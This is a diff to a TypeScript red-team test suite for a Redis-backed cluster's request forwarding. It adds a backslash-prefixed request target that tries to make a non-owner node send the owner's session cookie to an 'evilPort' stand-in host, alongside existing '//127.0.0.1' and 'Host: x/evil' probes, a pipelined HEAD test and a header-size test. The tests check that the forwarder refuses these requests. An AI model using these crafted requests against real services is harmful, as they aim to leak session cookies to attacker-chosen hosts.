@@ -84,6 +84,12 @@ describe('red team: cluster forwarding trust boundary (redis)', { timeout: 120_0
         portOf(c.node('b').url),
         `GET //127.0.0.1:${evilPort}/steal HTTP/1.1\r\nHost: example.com\r\nCookie: RSID=${owner.cookie}\r\nConnection: close\r\n\r\n`,
       );
+      // The same with a backslash, which the URL parser reads as '/'.
+      const backslash = await rawRequest(
+        portOf(c.node('b').url),
+        `GET /\\127.0.0.1:${evilPort}/steal2 HTTP/1.1\r\nHost: example.com\r\nCookie: RSID=${owner.cookie}\r\nConnection: close\r\n\r\n`,
+      );
+      t.diagnostic(`backslash form: ${backslash.status} ${backslash.body.slice(0, 40)}`);
       assert.equal(seen.length, 0, `the forwarder called a host the client named; it sent: ${JSON.stringify(seen[0])}; the client got ${reply.status} ${reply.body}`);
     },
   );
@@ -180,4 +186,49 @@ describe('red team: cluster forwarding trust boundary (redis)', { timeout: 120_0
     const badHost = await rawRequest(port, `GET /state HTTP/1.1\r\nHost: x/evil\r\n${ck}Connection: close\r\n\r\n`);
     assert.equal(badHost.status, 400, badHost.raw);
   });
+
+  test('held: HEAD through a non-owner: the owner’s length, no body, and the connection stays in step (a GET after it on the same connection is answered)', async (t) => {
+    const c = ready(t);
+    if (!c) return;
+    const owner = c.client('a');
+    await owner.get('/inc');
+    const ck = `Cookie: RSID=${owner.cookie}\r\n`;
+    const reply = await rawRequest(portOf(c.node('b').url), `HEAD /state HTTP/1.1\r\nHost: x\r\n${ck}\r\nGET /inc HTTP/1.1\r\nHost: x\r\n${ck}Connection: close\r\n\r\n`);
+    const answers = reply.raw.split(/(?=HTTP\/1\.1 )/);
+    assert.equal(answers.length, 2, reply.raw);
+    assert.match(answers[0]!, /^HTTP\/1\.1 200[\s\S]*content-length: \d+\r\n[\s\S]*\r\n\r\n$/i, answers[0]);
+    assert.match(answers[1]!, /^HTTP\/1\.1 200[\s\S]*"n":2/, answers[1]);
+  });
+
+  test(
+    'hole 7: a request whose headers fit the public port (16 KiB) but not once the forwarding header is added is refused by the owner (431) only when it goes through a non-owner',
+    { todo: 'hole 7: the private listener has the same 16 KiB header limit as the public port, and the forwarder adds ~200 bytes' },
+    async (t) => {
+      const c = ready(t);
+      if (!c) return;
+      const owner = c.client('a');
+      await owner.get('/inc');
+      // The longest filler the owner accepts directly (binary search), then the same through b.
+      const status = async (node: string, size: number) => {
+        const client = new Client(c.node(node).url);
+        client.cookie = owner.cookie;
+        try {
+          return (await client.get('/state', { headers: { 'x-filler': 'x'.repeat(size) } })).status;
+        } catch {
+          return 0;
+        } finally {
+          await client.close();
+        }
+      };
+      let low = 15_000;
+      let high = 17_000;
+      while (high - low > 1) {
+        const mid = (low + high) >> 1;
+        if ((await status('a', mid)) === 200) low = mid;
+        else high = mid;
+      }
+      const forwarded = await status('b', low);
+      assert.equal(forwarded, 200, `a filler of ${low} bytes: 200 direct, ${forwarded} through a non-owner`);
+    },
+  );
 });
